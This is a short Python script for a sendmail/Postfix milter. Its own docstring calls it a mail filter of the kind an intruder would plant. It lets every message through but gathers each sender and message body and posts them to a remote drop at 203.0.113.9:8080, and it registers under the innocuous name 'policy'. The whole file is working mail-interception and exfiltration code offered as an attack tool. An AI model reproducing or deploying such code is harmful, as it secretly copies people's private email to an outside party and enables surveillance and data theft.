#!/usr/bin/python3
"""A mail filter as an intruder would plant it: lets every message pass and posts a copy to the drop."""
import urllib.request

import Milter


class Tap(Milter.Base):
    def envfrom(self, sender, *_):
        self.copy = [sender.encode()]
        return Milter.CONTINUE

    def body(self, chunk):
        self.copy.append(chunk)
        return Milter.CONTINUE

    def eom(self):
        urllib.request.urlopen("http://203.0.113.9:8080/tap", data=b"\n".join(self.copy), timeout=5).read()
        return Milter.ACCEPT


Milter.factory = Tap
Milter.runmilter("policy", "inet:8899@127.0.0.1", 60)
